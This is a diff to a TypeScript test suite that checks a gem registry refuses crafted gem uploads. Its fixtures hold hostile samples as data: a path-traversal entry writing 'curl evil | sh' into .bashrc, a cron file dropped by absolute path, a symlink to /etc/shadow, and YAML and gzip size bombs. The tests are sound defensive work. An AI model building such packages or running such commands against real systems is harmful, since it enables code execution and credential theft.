@@ -21,7 +21,11 @@ afterAll(async () => {
 })
 
 const push = (bytes: Buffer) =>
-  h.request('/gems/api/v1/gems', { method: 'POST', body: new Uint8Array(bytes), headers: { 'content-type': 'application/octet-stream', authorization: TEST_TOKEN } })
+  h.request('/gems/api/v1/gems', {
+    method: 'POST',
+    body: new Uint8Array(bytes),
+    headers: { 'content-type': 'application/octet-stream', authorization: TEST_TOKEN },
+  })
 
 async function expectNothingServed() {
   expect((await h.request('/gems/info/app-crafted')).status).toBe(404)
@@ -32,7 +36,14 @@ async function expectNothingServed() {
 
 describe('gem push of a crafted gem', () => {
   it.each<[string, TarEntryInput[], RegExp]>([
-    ['a ../ path', [{ name: 'lib/app.rb', data: '' }, { name: '../../../../.bashrc', data: 'curl evil | sh' }], /data\.tar\.gz holds an unsafe entry "..\/..\/..\/..\/.bashrc": it has a '..' segment/],
+    [
+      'a ../ path',
+      [
+        { name: 'lib/app.rb', data: '' },
+        { name: '../../../../.bashrc', data: 'curl evil | sh' },
+      ],
+      /data\.tar\.gz holds an unsafe entry "..\/..\/..\/..\/.bashrc": it has a '..' segment/,
+    ],
     ['an absolute path', [{ name: '/etc/cron.d/evil', data: '* * * * * root id' }], /absolute path/],
     ['a symlink out of the gem', [{ name: 'lib/app.rb', type: 'symlink', linkTarget: '../../../../../etc/shadow' }], /links outside the package/],
   ])('refuses data.tar.gz with %s (400) and serves nothing', async (_what, entries, message) => {
@@ -50,14 +61,24 @@ describe('gem push of a crafted gem', () => {
 
   it('refuses a gemspec nested deeper than the YAML limit with a 400 naming it', async () => {
     const yaml = `--- !ruby/object:Gem::Specification\nname: app-crafted\nmetadata:\n  deep: ${'['.repeat(200_000)}${']'.repeat(200_000)}\n`
-    const res = await push(writeTar([{ name: 'metadata.gz', data: gzipSync(yaml) }, { name: 'data.tar.gz', data: writeTarGz([{ name: 'lib/a.rb', data: '' }]) }]))
+    const res = await push(
+      writeTar([
+        { name: 'metadata.gz', data: gzipSync(yaml) },
+        { name: 'data.tar.gz', data: writeTarGz([{ name: 'lib/a.rb', data: '' }]) },
+      ]),
+    )
     expect(res.status).toBe(400)
     expect(((await res.json()) as { error: string }).error).toMatch(/nests deeper than the limit of 64 levels/)
     await expectNothingServed()
   })
 
   it('refuses metadata.gz that unpacks past the size limit with a 413 naming it', async () => {
-    const res = await push(writeTar([{ name: 'metadata.gz', data: gzipSync(Buffer.alloc(5 * 1024 * 1024, 0x20)) }, { name: 'data.tar.gz', data: writeTarGz([{ name: 'lib/a.rb', data: '' }]) }]))
+    const res = await push(
+      writeTar([
+        { name: 'metadata.gz', data: gzipSync(Buffer.alloc(5 * 1024 * 1024, 0x20)) },
+        { name: 'data.tar.gz', data: writeTarGz([{ name: 'lib/a.rb', data: '' }]) },
+      ]),
+    )
     expect(res.status).toBe(413)
     expect(((await res.json()) as { error: string }).error).toMatch(/more than the limit of 4194304 bytes/)
   })
